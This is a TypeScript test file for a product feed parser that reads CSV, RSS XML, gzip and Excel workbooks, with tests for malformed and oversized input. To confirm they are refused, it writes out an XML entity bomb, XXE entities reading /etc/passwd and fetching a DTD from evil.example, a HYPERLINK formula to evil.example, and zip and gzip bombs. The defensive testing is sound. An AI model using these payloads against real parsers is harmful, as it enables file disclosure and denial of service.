import { type FeedRow } from '@adloom/domain/campaign/feed-product.ts'
import { AdloomError } from '@adloom/domain/error.ts'
import * as fc from 'fast-check'
import { randomBytes } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { cutInParts, googleRss, SAMPLE_DAY, shopifyCsv } from './feed-samples.test-data.ts'
import { readFeed } from './read-feed.ts'
import { workbookOf, zipOfFiles } from './workbook.test-data.ts'

type Bytes = AsyncIterable<Uint8Array>

async function readAll(bytes: Bytes): Promise<FeedRow[]> {
  const rows: FeedRow[] = []
  for await (const row of readFeed(bytes, { now: SAMPLE_DAY })) rows.push(row)
  return rows
}
const rowsOf = (content: string | Uint8Array, length = 5000): Promise<FeedRow[]> => readAll(cutInParts(content, length))
const codesOf = (rows: readonly FeedRow[]) => rows.map((row) => ('problem' in row ? row.problem.code : 'product'))

/** The same part over and over, up to a gigabyte; tells how often it was asked for. */
function endless(begin: string, part: string, length = 1024 ** 3) {
  const state = { read: 0 }
  async function* bytes(): AsyncGenerator<Uint8Array> {
    yield new TextEncoder().encode(begin)
    const more = new TextEncoder().encode(part.repeat(Math.ceil(65_536 / part.length)))
    while (state.read < length) {
      state.read += more.length
      yield more
    }
  }
  return { bytes: bytes(), state }
}

describe('a gigabyte that never ends its first row is refused after a few megabytes', () => {
  test.each([
    ['one line', 'https://shop.example/', 'a'],
    ['one cell', 'id,title,link\n1,', 'a'],
    ['a quotation mark that is never closed', 'id,title,link\n1,"', 'a,\n'],
    ['one text of XML', '<?xml version="1.0"?><rss><channel><item><title>', 'a'],
    ['one attribute', '<?xml version="1.0"?><rss><channel><item><link href="', 'a'],
    ['one comment', '<?xml version="1.0"?><rss><!-- ', 'a'],
    ['tags within each other', '<?xml version="1.0"?><rss><channel><item>', '<a>'],
    ['a document type', '<?xml version="1.0"?><!DOCTYPE rss [', 'a '],
  ])('%s', async (_, begin, part) => {
    const { bytes, state } = endless(begin, part)
    const outcome = await readAll(bytes).then(
      (rows) => codesOf(rows).find((code) => code !== 'product') ?? 'none',
      (error: unknown) => (error instanceof AdloomError ? error.code : 'other'),
    )
    expect(outcome).toMatch(/^feed\.(row-too-long|broken-xml)$/)
    expect(state.read).toBeLessThan(8 * 1024 ** 2)
  })
})

test('what is no feed is refused in a sentence', async () => {
  await expect(rowsOf('')).rejects.toMatchObject({ code: 'feed.empty' })
  await expect(rowsOf('id,title,link,price\n')).rejects.toMatchObject({ code: 'feed.empty' })
  await expect(rowsOf('Just a letter to a friend.\nNothing else.')).rejects.toMatchObject({ code: 'feed.unknown' })
  await expect(rowsOf(Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0', 'latin1'))).rejects.toMatchObject({ code: 'feed.unknown' })
  await expect(rowsOf('<?xml version="1.0"?><rss><channel><title>x</title></channel></rss>')).rejects.toMatchObject({ code: 'feed.empty' })
  await expect(rowsOf('<?xml version="1.0"?><rss><channel><title>x</chan')).rejects.toMatchObject({ code: 'feed.broken-xml' })
  // Shift_JIS
  const japanese = Buffer.concat([
    Buffer.from('id,title,link\n1,'),
    Buffer.from([0x90, 0xd4, 0x82, 0xa2]),
    Buffer.from(',https://shop.example/1\n'),
  ])
  await expect(rowsOf(japanese)).rejects.toMatchObject({ code: 'feed.encoding' })
  // "Красная кружка" and two more, in Windows-1251.
  const cyrillic = Buffer.from(
    'id,title,link\n1,\xca\xf0\xe0\xf1\xed\xe0\xff \xea\xf0\xf3\xe6\xea\xe0,https://shop.example/1\n2,\xc2\xe0\xe7\xe0 \xe1\xee\xeb\xfc\xf8\xe0\xff,https://shop.example/2\n',
    'latin1',
  )
  await expect(rowsOf(cyrillic)).rejects.toMatchObject({ code: 'feed.encoding' })
})

test('broken letters within UTF-8 cost their row only', async () => {
  const bytes = Buffer.concat([
    Buffer.from('id,title,link\n1,Röd mugg,https://shop.example/1\n2,Bl'),
    Buffer.from([0xe5]),
    Buffer.from(' skål,https://shop.example/2\n3,Vas,https://shop.example/3\n'),
  ])
  expect(codesOf(await rowsOf(bytes))).toEqual(['product', 'feed.characters', 'product'])
})

test('a quotation mark that is never closed costs what follows, not what stands before', async () => {
  const rows = await rowsOf('id,title,link\n1,Mug,https://shop.example/1\n2,"Vase,https://shop.example/2\n3,Pan,https://shop.example/3\n')
  expect(codesOf(rows)).toEqual(['product', 'feed.quote'])
  expect(rows[1]).toMatchObject({ row: 3, problem: { sentence: expect.stringContaining('row 3') } })
  // The next quotation mark closes it.
  const swallowed = await rowsOf(
    'id,title,link\n1,Mug,https://shop.example/1\n2,"Vase,https://shop.example/2\n3,"Pan",https://shop.example/3\n4,Jug,https://shop.example/4\n',
  )
  expect(codesOf(swallowed)).toEqual(['product', 'feed.run-on', 'product'])
})

test('broken XML costs its entry, and the others are read', async () => {
  const item = (id: number, inside = '') =>
    `<item><g:id>${id}</g:id><title>Mug ${id}</title><link>https://shop.example/${id}</link>${inside}</item>\n`
  const rss = (...items: readonly string[]) =>
    `<?xml version="1.0"?>\n<rss xmlns:g="http://base.google.com/ns/1.0"><channel>\n${items.join('')}</channel></rss>`
  expect(codesOf(await rowsOf(rss(item(1), item(2, '<b>&unknown;</b>'), item(3, '<a><b></a>'), item(4))))).toEqual([
    'product',
    'feed.broken-xml',
    'feed.broken-xml',
    'product',
  ])
  // A tag closed that was never opened, as after a lost piece.
  expect(codesOf(await rowsOf(rss(item(1), item(2).replace('<title>', ''), item(3), item(4))))).toEqual([
    'product',
    'feed.broken-xml',
    'product',
    'product',
  ])
  // Links as shops paste them.
  expect(
    await rowsOf(rss(item(1, '<image_link>https://shop.example/1.jpg?a=1&b=2</image_link><x><![CDATA[a & b]]></x>')), 3),
  ).toMatchObject([{ product: { image: 'https://shop.example/1.jpg?a=1&b=2' } }])
  // Torn in the middle.
  expect(codesOf(await rowsOf(rss(item(1), item(2)).slice(0, -60)))).toEqual(['product', 'feed.broken-xml'])
})

test('entities are neither defined nor fetched', async () => {
  const bomb = 'abcdefgh'
    .split('')
    .map((name, at, names) => `<!ENTITY ${name} "${at === 0 ? 'lol' : `&${names[at - 1]};`.repeat(10)}">`)
    .join('')
  for (const inside of [bomb, '<!ENTITY x SYSTEM "file:///etc/passwd">', '<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;']) {
    const text = `<?xml version="1.0"?><!DOCTYPE rss [${inside}]><rss><channel><item><title>&h;&x;</title><link>https://shop.example/1</link></item></channel></rss>`
    await expect(rowsOf(text)).rejects.toMatchObject({ code: 'feed.entities' })
  }
})

describe('a workbook', () => {
  const rows = [
    ['SKU', 'Product name', 'Price', 'URL', 'Image URL'],
    ['A-1', 'Red Mug', 12.5, 'https://shop.example/1', 'https://shop.example/1.jpg'],
    ['A-2', 'Vase & Bowl', { formula: 'SUM(1,2)', value: '3' }, 'https://shop.example/2', ''],
    ['A-3', 'Pan', '', { formula: 'HYPERLINK("https://evil.example","Pan")', value: '' }, ''],
  ]

  test('is read as a table: texts shared or inline, numbers, and of formulas only what was shown', async () => {
    for (const isShared of [true, false])
      expect(await rowsOf(workbookOf(rows, isShared))).toMatchObject([
        { row: 2, product: { id: 'A-1', title: 'Red Mug', link: 'https://shop.example/1', image: 'https://shop.example/1.jpg' } },
        { row: 3, product: { id: 'A-2', title: 'Vase & Bowl' } },
        { row: 4, problem: { code: 'feed.formula', column: 'URL' } },
      ])
  })

  test('that is a bomb, damaged or no workbook is refused', async () => {
    const zeros = zipOfFiles({ 'xl/worksheets/sheet1.xml': Buffer.alloc(64 * 1024 ** 2, 32) })
    expect(zeros.length).toBeLessThan(100_000)
    await expect(rowsOf(zeros)).rejects.toMatchObject({ code: 'feed.bomb' })
    await expect(rowsOf(zipOfFiles({ 'readme.txt': Buffer.from('hello') }))).rejects.toMatchObject({ code: 'feed.sheet' })
    const whole = workbookOf(rows, true)
    for (const end of [60, 400, whole.length - 10])
      await expect(rowsOf(whole.subarray(0, end))).rejects.toMatchObject({ code: 'feed.sheet' })
    const damaged = Buffer.from(whole)
    damaged.fill(7, 200, 300)
    await expect(rowsOf(damaged)).rejects.toMatchObject({ code: expect.stringMatching(/^feed\./) })
    const entities = '<!DOCTYPE x [<!ENTITY a "b">]><worksheet><sheetData><row><c t="str"><v>&a;</v></c></row></sheetData></worksheet>'
    await expect(rowsOf(zipOfFiles({ 'xl/worksheets/sheet1.xml': Buffer.from(entities) }))).rejects.toMatchObject({ code: 'feed.sheet' })
  })

  const sheet = (xml: string, files: Readonly<Record<string, Uint8Array>> = {}): Buffer =>
    zipOfFiles({ 'xl/worksheets/sheet1.xml': Buffer.from(`<worksheet><sheetData>${xml}</sheetData></worksheet>`), ...files })

  test('with rows of impossible numbers counts them itself', async () => {
    const row = (number: string): string =>
      `<row r="${number}"><c t="str"><v>https://shop.example/${number.length}</v></c><c t="str"><v>Mug ${number.length}</v></c></row>`
    const read = await rowsOf(sheet(['1', '-20', 'abc', '1e999'].map(row).join('')))
    expect(read.map((each) => each.row)).toEqual([1, 2, 3, 4])
  })

  test('with a cell longer than a row, or with endless empty texts, is refused', async () => {
    const noise = (length: number): string => randomBytes(length).toString('hex')
    const runs = `<t>${noise(4096)}</t>`.repeat(200)
    await expect(rowsOf(sheet(`<row><c t="inlineStr"><is>${runs}</is></c></row>`))).rejects.toMatchObject({ code: 'feed.sheet' })
    // The noise makes it no bomb.
    const texts = `<sst><!--${noise(100_000)}-->${'<si/>'.repeat(4_300_000)}</sst>`
    const shared = sheet('<row><c t="s"><v>1</v></c></row>', { 'xl/sharedStrings.xml': Buffer.from(texts) })
    await expect(rowsOf(shared)).rejects.toMatchObject({ code: 'feed.too-large' })
  })
})

test('a feed may be gzipped, and a bomb is refused', async () => {
  expect(codesOf(await rowsOf(gzipSync(googleRss)))).toEqual(['product', 'product'])
  const bomb = gzipSync(`id,title,link,description\n${`1,a,https://shop.example/1,${'a'.repeat(9000)}\n`.repeat(5000)}`)
  expect(codesOf(await rowsOf(bomb)).at(-1)).toBe('feed.bomb')
  await expect(rowsOf(gzipSync(shopifyCsv).subarray(0, 300))).rejects.toMatchObject({ code: 'feed.torn' })
}, 30_000)

test('any bytes give rows or one of our errors, however they are cut', async () => {
  const samples = [googleRss, shopifyCsv, 'https://shop.example/a\nb', '"', 'a;b\n"'].map((text) => new TextEncoder().encode(text))
  const bytes = fc.oneof(
    fc.uint8Array({ maxLength: 300 }),
    fc
      .string({
        unit: fc.constantFrom('<', '>', '&', ';', ',', '"', '\n', '\t', 'a', '1', '=', '/', 'http://a.b', '<item>', '</item>'),
        maxLength: 200,
      })
      .map((text) => new TextEncoder().encode(text)),
    fc.tuple(fc.constantFrom(...samples), fc.nat(), fc.nat(255), fc.nat()).map(([sample, at, byte, end]) => {
      const changed = Uint8Array.from(sample)
      changed[at % changed.length] = byte
      return changed.subarray(0, 1 + (end % changed.length))
    }),
  )
  await fc.assert(
    fc.asyncProperty(bytes, fc.integer({ min: 1, max: 400 }), async (content, length) => {
      const outcome = await readAll(cutInParts(content, length)).catch((error: unknown) => error)
      expect(Array.isArray(outcome) || (outcome instanceof AdloomError && outcome.code.startsWith('feed.'))).toBe(true)
    }),
    { numRuns: 300 },
  )
}, 60_000)

test('how the bytes are cut changes nothing', async () => {
  const expected = await rowsOf(googleRss, 1_000_000)
  await fc.assert(
    fc.asyncProperty(fc.integer({ min: 1, max: 100 }), async (length) => {
      expect(await rowsOf(googleRss, length)).toEqual(expected)
    }),
    { numRuns: 15 },
  )
})
